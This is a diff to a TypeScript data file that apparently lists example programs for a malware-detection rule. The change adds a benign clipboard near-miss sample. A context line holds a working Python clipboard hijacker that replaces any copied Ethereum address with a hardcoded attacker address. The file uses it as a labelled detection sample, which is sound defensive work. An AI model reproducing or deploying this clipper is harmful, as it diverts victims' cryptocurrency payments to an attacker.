@@ -75,7 +75,13 @@ export const offeredPrograms: readonly RuleExamples[] = [
           "import pyperclip, re\nMINE = '0x71C7656EC7ab88b098defB751B7401B5f6d8976F'\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^0x[a-f0-9]{40}$', t): pyperclip.copy(MINE)\n",
       },
     ],
-    nearMiss: [{ "scripts/copy.py": "import pyperclip\npyperclip.copy(pyperclip.paste().strip())\n" }],
+    nearMiss: [
+      { "scripts/copy.py": "import pyperclip\npyperclip.copy(pyperclip.paste().strip())\n" },
+      {
+        "scripts/copy.py":
+          'import pyperclip, re\npyperclip.copy(address)\nassert re.match("^bc1", pyperclip.paste())\n',
+      },
+    ],
   },
 ];
 
